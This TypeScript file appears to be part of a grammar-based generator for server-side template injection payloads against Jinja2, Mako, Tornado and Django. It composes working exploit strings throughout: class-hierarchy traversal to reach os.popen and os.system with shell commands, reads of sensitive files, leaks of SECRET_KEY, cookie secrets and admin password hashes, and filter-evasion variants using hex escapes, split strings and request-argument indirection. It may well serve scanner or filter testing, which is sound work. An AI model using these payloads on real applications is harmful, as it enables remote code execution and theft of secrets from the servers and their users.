/** Jinja2, Mako, Tornado and Django: from an object of the template to the operating system. */
import {
  characters,
  drawInteger,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { identifier, sensitiveFile, shellCommand, token } from '../lexicon.ts';
import { braces } from './arithmetic.ts';

/** The name of an attribute as `.name`, `['name']`, `|attr('name')`, split or in hexadecimal escapes. */
function attribute(name: string): Rule {
  const hexadecimal = [...name].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
  const split: Rule = (random) => {
    const at = drawInteger(random, 1, name.length - 1);
    return `${name.slice(0, at)}'${random() < 0.5 ? '+' : '~'}'${name.slice(at)}`;
  };
  return weighted(
    [14, `.${name}`],
    [4, `['${name}']`],
    [2, `["${name}"]`],
    [3, `|attr('${name}')`],
    [2, `|attr("${name.replaceAll('_', '\\x5f')}")`],
    [1, `['${hexadecimal}']`],
    [1, text`['${split}']`],
    [1, `|attr(['${name.slice(0, 2)}','${name.slice(2)}']|join)`],
    [1, text`|attr(request.args.${characters(LOWER_CASE, 1, 4)})`],
    [0.5, `['${[...name].reverse().join('')}'|reverse]`],
  );
}

const chain =
  (...names: readonly string[]): Rule =>
  (random) =>
    names.map((name) => attribute(name)(random)).join('');

const literal: Rule = oneOf("''", '""', '[]', '()', '{}', 'self', 'config', 'request', integer(0, 9));
const helper: Rule = oneOf(
  'lipsum',
  'cycler',
  'joiner',
  'namespace',
  'url_for',
  'get_flashed_messages',
  'self',
  'config',
  'request',
  'g',
  'dict',
  'range',
);

const classes: Rule = text`${literal}${chain('__class__')}${oneOf(
  chain('__base__'),
  text`${chain('__mro__')}[${oneOf('1', '2', '-1')}]`,
  text`${chain('__bases__')}[0]`,
  text`${chain('__mro__')}${attribute('__getitem__')}(${integer(1, 2)})`,
)}${chain('__subclasses__')}()`;

const globals: Rule = weighted(
  [4, text`${helper}${chain('__init__', '__globals__')}`],
  [2, text`${oneOf('lipsum', 'url_for', 'get_flashed_messages')}${chain('__globals__')}`],
  [2, text`request${chain('application', '__globals__')}`],
  [1, text`self._TemplateReference__context.${helper}${chain('__init__', '__globals__')}`],
  [1, text`${literal}${chain('__class__', '__init__', '__globals__')}`],
);

const run: Rule = oneOf(
  text`.popen('${shellCommand}').read()`,
  text`.popen("${shellCommand}").read()`,
  text`.system('${shellCommand}')`,
  text`['popen']('${shellCommand}')['read']()`,
  text`|attr('popen')('${shellCommand}')|attr('read')()`,
  text`.popen(request.args.${identifier}).read()`,
);

const jinjaExpression: Rule = oneOf(
  text`${globals}.os${run}`,
  text`${globals}['os']${run}`,
  text`${globals}${chain('__builtins__')}.__import__('os')${run}`,
  text`${globals}${chain('__builtins__')}['__import__']('os')${run}`,
  text`${globals}${chain('__builtins__')}.open('${sensitiveFile}').read()`,
  text`${globals}${chain('__builtins__')}.eval('__import__("os").popen("${shellCommand}").read()')`,
  classes,
  text`${classes}[${integer(1, 500)}]`,
  text`${classes}[${integer(1, 500)}]('${shellCommand}',shell=True,stdout=-1).communicate()${maybe('[0].strip()')}`,
  text`${classes}[${integer(1, 500)}]('${sensitiveFile}').read()`,
  text`${classes}[${integer(1, 500)}]${chain('__init__', '__globals__')}['sys'].modules['os']${run}`,
  text`${classes}[${integer(1, 500)}]${chain('__init__', '__globals__')}['popen']('${shellCommand}').read()`,
  oneOf(
    'config.items()',
    'config.SECRET_KEY',
    'self.__dict__',
    'settings.SECRET_KEY',
    'handler.settings',
    'messages.storages.0.signer.key',
    "handler.application.settings['cookie_secret']",
  ),
  text`request.environ['${oneOf('werkzeug.server.shutdown', 'SECRET_KEY', 'wsgi.input')}']${maybe('()')}`,
  text`config${attribute('__class__')}.from_envvar${attribute('__globals__')}.import_string("os")${run}`,
  text`${literal}${chain('__class__', '__mro__')}`,
  text`${oneOf('get_flashed_messages', 'url_for')}${chain('__globals__')}['current_app'].config${oneOf('.FLAG', "['SECRET_KEY']", '')}`,
  text`dict(${characters(LOWER_CASE, 1, 3)}=cycler)${chain('__class__')}|${oneOf('string', 'list')}`,
  text`(${helper}|string|list)[${integer(1, 30)}]~(${helper}|string|list)[${integer(1, 30)}]`,
);

const jinjaStatement: Rule = oneOf(
  text`{% for ${identifier} in ${classes} %}{% if "${oneOf('warning', 'catch_warnings', 'Popen', 'os._wrap_close')}" in ${identifier}.__name__ %}{{${identifier}()._module.__builtins__['__import__']('os')${run}}}{%endif%}{% endfor %}`,
  text`{% set ${identifier}=${globals} %}{{${identifier}.os${run}}}`,
  text`{% with ${identifier} = request["application"]["\\x5f\\x5fglobals\\x5f\\x5f"]["\\x5f\\x5fbuiltins\\x5f\\x5f"]["\\x5f\\x5fimport\\x5f\\x5f"]("os")["popen"]("${shellCommand}")["read"]() %}{{ a }}{% endwith %}`,
  text`{% ${oneOf('include', 'extends')} '${sensitiveFile}' %}`,
  text`{% print(${jinjaExpression}) %}`,
  text`{% if ${jinjaExpression} %}${token}{% endif %}`,
  text`{% import os %}{{${maybe(' ')}os${run}${maybe(' ')}}}`,
  text`{% debug %}{% load ${oneOf('log', 'module')} %}{% get_admin_log ${integer(1, 20)} as log %}{% for e in log %}{{e.user.get_username}} : {{e.user.password}}{% endfor %}`,
);

const mako: Rule = oneOf(
  text`<% import os; ${identifier}=os.popen('${shellCommand}').read() %>\${${identifier}}`,
  text`<%\nimport os\n${identifier}=os.popen('${shellCommand}').read()\n%>\n\${${identifier}}`,
  text`\${self.${oneOf('module.cache.util', 'module.runtime.util', 'template.module.cache.util', 'attr._NSAttr__parent.module.cache.util', 'module.runtime.exceptions.util')}.os.${oneOf('system', 'popen')}('${shellCommand}')}`,
  text`\${__import__("os").${oneOf('system', 'popen')}('${shellCommand}')${maybe('.read()')}}`,
  text`\${self.module.cache.util.os.${oneOf('environ', 'listdir("/")', 'getcwd()')}}`,
);

/** Jinja2, Django, Tornado and Mako. */
export const pythonTemplate: Rule = weighted([7, braces(jinjaExpression)], [3, jinjaStatement], [2, mako]);
